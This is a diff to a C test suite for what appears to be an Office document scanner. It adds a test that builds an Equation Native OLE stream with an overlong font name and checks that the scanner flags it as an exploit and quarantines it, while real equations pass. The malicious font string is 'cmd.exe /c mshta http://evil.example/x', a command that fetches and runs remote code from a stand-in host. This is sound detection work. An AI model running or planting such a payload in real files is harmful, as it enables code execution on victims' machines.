@@ -1054,6 +1054,57 @@ START_TEST(xlsb_formulas)
 }
 END_TEST
 
+/* An Equation Native stream: the overflowing FONT record or a real one. */
+static char *
+equation_scan(const char *font)
+{
+	GByteArray *eq = g_byte_array_new();
+	struct cfb_ent e[2];
+	GByteArray *empty = g_byte_array_new(), *cfb;
+	uint8_t hdr[28] = { 0x1c, 0x00, 0x00, 0x00, 0x02, 0x00 };
+	uint8_t mtef[] = { 0x03, 0x01, 0x01, 0x03, 0x0a, 0x0a, 0x01, 0x08,
+		0x5a, 0x5a };
+	char *json;
+
+	g_byte_array_append(eq, hdr, sizeof(hdr));
+	g_byte_array_append(eq, mtef, sizeof(mtef));
+	g_byte_array_append(eq, (const uint8_t *)font, strlen(font) + 1);
+	g_byte_array_set_size(eq, 600);
+	e[0] = (struct cfb_ent){ "ObjectPool", -1, true, empty };
+	e[1] = (struct cfb_ent){ "Equation Native", 0, false, eq };
+	cfb = cfb_build(e, 2);
+	json = scan_json(cfb->data, cfb->len, "oleObject1.bin");
+	g_byte_array_free(cfb, TRUE);
+	g_byte_array_free(eq, TRUE);
+	g_byte_array_free(empty, TRUE);
+	return json;
+}
+
+START_TEST(equation_objects)
+{
+	char *json = equation_scan("cmd.exe /c mshta http://evil.example/x "
+	    "&AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
+	const char *const bad[] = { "\"OFFICE_EXPLOIT_CLASS\"",
+		"overlong font name", "\"action\":\"quarantine\"", NULL };
+	const char *const ok[] = { "\"OFFICE_EQUATION_OBJECT\"", NULL };
+	const char *const not[] = { "\"OFFICE_EXPLOIT_CLASS\"", NULL };
+
+	want_in(json, bad, true);
+	g_free(json);
+	json = equation_scan("Times New Roman");
+	want_in(json, ok, true);
+	want_in(json, not, false);
+	g_free(json);
+	/* Real equations (Tika govdocs, POI): the object, not the exploit. */
+	if ((json = scan_corpus("tika-office/testMSEquation-govdocs-863534.doc",
+	    "x.doc")) != NULL) {
+		want_in(json, ok, true);
+		want_in(json, not, false);
+		g_free(json);
+	}
+}
+END_TEST
+
 /* oleobj's samples: OLE packages inside .doc and .ppt, unpacked. */
 START_TEST(corpus_ole_packages)
 {
@@ -1109,6 +1160,7 @@ office_suite(void)
 	tcase_add_test(tc, userform_text);
 	tcase_add_test(tc, vba_stomped);
 	tcase_add_test(tc, xlsb_formulas);
+	tcase_add_test(tc, equation_objects);
 	suite_add_tcase(s, tc);
 	return s;
 }
